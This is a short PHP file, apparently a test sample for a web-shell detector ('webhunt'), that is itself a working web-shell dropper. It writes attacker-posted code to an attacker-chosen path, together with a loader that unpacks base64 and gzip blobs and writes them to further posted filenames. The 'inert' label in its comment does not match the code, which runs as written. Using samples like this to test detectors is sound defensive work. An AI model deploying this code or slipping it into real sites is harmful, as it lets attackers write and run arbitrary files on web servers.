<?php
// webhunt test sample (inert): a shell generator. The posted code is packed and written under a
// posted name together with a small loader kept in a string whose variables are escaped; the
// loader unpacks a posted blob and writes it under another posted name.
if (isset($_POST['make'])) {
    $packed = base64_encode(gzdeflate($_POST['code']));
    $loader = "<p>$packed</p>\n<?php\nif (isset(\$_POST['go'])) {\n"
        . "    \$blob = gzinflate(base64_decode(\$_POST['blob']));\n"
        . "    \$h = fopen(\$_POST['name'], 'w');\n"
        . "    fwrite(\$h, \$blob);\n}\n?>";
    $out = fopen($_POST['target'], 'w');
    fwrite($out, $loader);
    fclose($out);
    echo 'written';
}
